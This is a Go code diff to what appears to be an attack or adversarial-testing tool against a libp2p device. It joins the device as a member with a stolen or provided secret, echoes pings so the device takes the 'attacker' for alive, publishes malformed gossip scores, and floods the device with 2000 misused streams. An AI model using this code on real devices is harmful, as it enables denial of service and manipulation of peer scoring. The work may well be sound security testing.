@@ -80,8 +80,9 @@ func (r oneByte) ReadByte() (byte, error) {
 	return b[0], err
 }
 
-// join connects to the device as a member.
-func join(ctx context.Context, target, file string) (host.Host, peer.ID, keys.Secret, error) {
+// join connects to the device as a member. prepare is called before: what is not
+// there from the start the device does not look for again.
+func join(ctx context.Context, target, file string, prepare func(host.Host) error) (host.Host, peer.ID, keys.Secret, error) {
 	secret, err := readSecret(file)
 	if err != nil {
 		return nil, "", secret, err
@@ -106,6 +107,11 @@ func join(ctx context.Context, target, file string) (host.Host, peer.ID, keys.Se
 		libp2p.Security(string(membershipID), func() sec.SecureTransport { return &member{key: key, proof: proof} }),
 		libp2p.Muxer(yamux.ID, yamux.DefaultTransport), libp2p.ResourceManager(&network.NullResourceManager{}))
 	if err != nil {
+		return nil, "", secret, err
+	}
+	// The device's pings are sent back, so that it takes the attacker for alive.
+	h.SetStreamHandler("/hearth/alive/1.0.0", func(s network.Stream) { _, _ = io.Copy(s, s) })
+	if err := prepare(h); err != nil {
 		return nil, "", secret, err
 	}
 	tcpAddr, err := net.ResolveTCPAddr("tcp", target)
@@ -137,20 +143,14 @@ func whoIs(ctx context.Context, target string, key crypto.PrivKey) (peer.ID, err
 	return c.RemotePeer(), nil
 }
 
-// answer sends the device's pings back, so that it takes the attacker for alive.
-func answer(h host.Host) {
-	h.SetStreamHandler("/hearth/alive/1.0.0", func(s network.Stream) { _, _ = io.Copy(s, s) })
-}
-
 // gossip publishes scores that are out of bounds, of others, old, too long, and
 // too many.
 func gossip(ctx context.Context, target, file string) error {
-	h, victim, secret, err := join(ctx, target, file)
-	if err != nil {
+	var ps *pubsub.PubSub
+	h, victim, secret, err := join(ctx, target, file, func(h host.Host) (err error) {
+		ps, err = pubsub.NewGossipSub(ctx, h, pubsub.WithFloodPublish(true), pubsub.WithMaxMessageSize(1<<20))
 		return err
-	}
-	answer(h)
-	ps, err := pubsub.NewGossipSub(ctx, h, pubsub.WithFloodPublish(true), pubsub.WithMaxMessageSize(1<<20))
+	})
 	if err != nil {
 		return err
 	}
@@ -193,11 +193,10 @@ func gossip(ctx context.Context, target, file string) error {
 
 // flood opens as many streams as the device takes, and misuses them.
 func flood(ctx context.Context, target, file, how string) error {
-	h, victim, _, err := join(ctx, target, file)
+	h, victim, _, err := join(ctx, target, file, func(host.Host) error { return nil })
 	if err != nil {
 		return err
 	}
-	answer(h)
 	var working sync.WaitGroup
 	for range 2000 {
 		working.Go(func() {
